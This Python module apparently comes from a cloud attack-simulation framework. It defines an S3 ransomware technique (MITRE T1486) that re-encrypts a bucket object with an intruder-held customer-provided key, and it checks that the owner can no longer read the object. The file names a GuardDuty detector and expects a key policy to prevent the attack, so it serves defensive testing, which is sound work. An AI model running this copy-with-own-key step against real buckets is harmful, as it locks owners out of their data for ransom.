"""Write every object anew, encrypted with a key that only the intruder has."""

from bastide.attack.stage import Stage
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A bucket is encrypted for ransom",
    mitre=("T1486",),
    tactic="impact",
    detectors=("GuardDuty Impact:S3/AnomalousBehavior.Write",),
    expected=Prevented("s3-customer-key-rcp"),
    source='Amazon S3 User Guide, "Using server-side encryption with customer-provided keys (SSE-C)"',
)
KEY = "0123456789abcdef0123456789abcdef"


def prepare(stage: Stage) -> Scene:
    """A bucket with something in it."""
    return {"bucket": stage.bucket("invoices")}


def attack(stage: Stage, scene: Scene) -> None:
    """Copy the object onto itself under one's own key."""
    stage.attacker().client("s3").copy_object(
        Bucket=scene["bucket"],
        Key="customers.csv",
        CopySource={"Bucket": scene["bucket"], "Key": "customers.csv"},
        SSECustomerAlgorithm="AES256",
        SSECustomerKey=KEY,
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The object is read with the intruder's key, and not without."""
    s3 = stage.owner().client("s3")
    try:
        s3.head_object(Bucket=scene["bucket"], Key="customers.csv")
    except s3.exceptions.ClientError as error:
        if error.response["ResponseMetadata"]["HTTPStatusCode"] != 400:
            raise
        return True
    return False


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the bucket."""
    stage.drop_bucket(scene["bucket"])
